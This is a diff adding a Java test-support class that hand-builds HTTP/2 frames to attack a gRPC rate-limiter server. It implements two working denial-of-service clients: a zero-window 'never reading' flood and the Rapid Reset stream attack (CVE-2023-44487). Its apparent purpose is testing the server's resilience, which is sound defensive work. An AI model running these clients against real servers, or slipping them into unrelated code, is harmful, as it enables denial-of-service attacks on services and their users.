@@ -1,0 +1,195 @@
+package io.sluice.support;
+
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.net.InetSocketAddress;
+import java.net.Socket;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.List;
+
+/**
+ * HTTP/2 clients that an attacker would write, from plain sockets: nothing in them cooperates.
+ * {@link #neverReading} opens connections that announce a receive window of 0 and a tiny socket
+ * buffer, send Check calls on many streams, and never read a byte; {@link #rapidReset} opens
+ * streams and resets each at once (CVE-2023-44487). Closing the returned handle closes every socket.
+ */
+public final class HostileClients implements AutoCloseable {
+
+  private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
+  private static final int DATA = 0;
+  private static final int HEADERS = 1;
+  private static final int RST_STREAM = 3;
+  private static final int SETTINGS = 4;
+  private static final int END_STREAM = 0x1;
+  private static final int END_HEADERS = 0x4;
+  private static final int SETTINGS_INITIAL_WINDOW_SIZE = 0x4;
+
+  private final List<Socket> sockets = new ArrayList<>();
+  /** Connections the server refused or closed while this client wrote: it stopped being read, or was cut off. */
+  private int cutOff;
+
+  private HostileClients() {
+  }
+
+  /**
+   * {@code connections} connections, each sending {@code streams} Check calls (a gRPC frame of
+   * {@code request}) with a receive window of 0, and never reading.
+   */
+  public static HostileClients neverReading(String host, int port, int connections, int streams, byte[] request) throws IOException {
+    HostileClients clients = new HostileClients();
+    byte[] settings = frame(SETTINGS, 0, 0, new byte[] {0, SETTINGS_INITIAL_WINDOW_SIZE, 0, 0, 0, 0});
+    for (int c = 0; c < connections; c++) {
+      ByteArrayOutputStream out = new ByteArrayOutputStream();
+      out.writeBytes(PREFACE);
+      out.writeBytes(settings);
+      for (int s = 0; s < streams; s++) {
+        int stream = 1 + 2 * s;
+        out.writeBytes(frame(HEADERS, END_HEADERS, stream, checkHeaders(host + ":" + port)));
+        out.writeBytes(frame(DATA, END_STREAM, stream, grpcFrame(request)));
+      }
+      clients.send(host, port, out.toByteArray());
+    }
+    return clients;
+  }
+
+  /** {@code connections} connections, each opening {@code streams} Check calls and resetting each at once. */
+  public static HostileClients rapidReset(String host, int port, int connections, int streams) throws IOException {
+    HostileClients clients = new HostileClients();
+    for (int c = 0; c < connections; c++) {
+      ByteArrayOutputStream out = new ByteArrayOutputStream();
+      out.writeBytes(PREFACE);
+      out.writeBytes(frame(SETTINGS, 0, 0, new byte[0]));
+      for (int s = 0; s < streams; s++) {
+        int stream = 1 + 2 * s;
+        out.writeBytes(frame(HEADERS, END_HEADERS, stream, checkHeaders(host + ":" + port)));
+        out.writeBytes(frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8}));
+      }
+      clients.send(host, port, out.toByteArray());
+    }
+    return clients;
+  }
+
+  private void send(String host, int port, byte[] bytes) throws IOException {
+    Socket socket = new Socket();
+    // A small window on our side too: the server's answers back up into its own buffers at once.
+    socket.setReceiveBufferSize(4096);
+    socket.connect(new InetSocketAddress(host, port), 5000);
+    synchronized (sockets) {
+      sockets.add(socket);
+    }
+    try {
+      OutputStream out = socket.getOutputStream();
+      out.write(bytes);
+      out.flush();
+    } catch (IOException e) {
+      // The server stopped reading this connection (the write blocks, then times out) or closed it.
+      cutOff++;
+    }
+  }
+
+  /** Connections whose writes the server refused (closed, or reset) while they were being sent. */
+  public int cutOff() {
+    return cutOff;
+  }
+
+  /** How many of the connections the server has closed by now (a read sees the end, or a reset). */
+  public int closedByServer() {
+    int closed = 0;
+    synchronized (sockets) {
+      for (Socket socket : sockets) {
+        if (serverClosed(socket)) {
+          closed++;
+        }
+      }
+    }
+    return closed;
+  }
+
+  private static boolean serverClosed(Socket socket) {
+    try {
+      socket.setSoTimeout(1);
+      byte[] sink = new byte[65536];
+      // Drains what the server sent; -1 (or a reset) means it closed. Reading here is the test looking, not the attacker.
+      while (true) {
+        if (socket.getInputStream().read(sink) < 0) {
+          return true;
+        }
+      }
+    } catch (java.net.SocketTimeoutException e) {
+      return false;
+    } catch (IOException e) {
+      return true;
+    }
+  }
+
+  @Override
+  public void close() {
+    synchronized (sockets) {
+      for (Socket socket : sockets) {
+        try {
+          socket.close();
+        } catch (IOException ignored) {
+          // closing anyway
+        }
+      }
+      sockets.clear();
+    }
+  }
+
+  private static byte[] checkHeaders(String authority) {
+    ByteArrayOutputStream block = new ByteArrayOutputStream();
+    block.write(0x83); // :method POST (static table 3)
+    block.write(0x86); // :scheme http (static table 6)
+    literal(block, 4, "/sluice.v1.RateLimiter/Check"); // :path
+    literal(block, 1, authority); // :authority
+    block.write(0x0F); // content-type (static table 31), literal without indexing: 15 + 16
+    block.write(0x10);
+    string(block, "application/grpc");
+    block.write(0x00); // te: a new name
+    string(block, "te");
+    string(block, "trailers");
+    return block.toByteArray();
+  }
+
+  /** A literal without indexing whose name is static-table entry {@code nameIndex} (below 15). */
+  private static void literal(ByteArrayOutputStream block, int nameIndex, String value) {
+    block.write(nameIndex);
+    string(block, value);
+  }
+
+  private static void string(ByteArrayOutputStream block, String value) {
+    byte[] bytes = value.getBytes(StandardCharsets.US_ASCII);
+    if (bytes.length >= 127) {
+      throw new IllegalArgumentException("header values here are short");
+    }
+    block.write(bytes.length);
+    block.writeBytes(bytes);
+  }
+
+  private static byte[] grpcFrame(byte[] message) {
+    byte[] framed = new byte[5 + message.length];
+    framed[1] = (byte) (message.length >>> 24);
+    framed[2] = (byte) (message.length >>> 16);
+    framed[3] = (byte) (message.length >>> 8);
+    framed[4] = (byte) message.length;
+    System.arraycopy(message, 0, framed, 5, message.length);
+    return framed;
+  }
+
+  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
+    byte[] frame = new byte[9 + payload.length];
+    frame[0] = (byte) (payload.length >>> 16);
+    frame[1] = (byte) (payload.length >>> 8);
+    frame[2] = (byte) payload.length;
+    frame[3] = (byte) type;
+    frame[4] = (byte) flags;
+    frame[5] = (byte) (stream >>> 24);
+    frame[6] = (byte) (stream >>> 16);
+    frame[7] = (byte) (stream >>> 8);
+    frame[8] = (byte) stream;
+    System.arraycopy(payload, 0, frame, 9, payload.length);
+    return frame;
+  }
+}
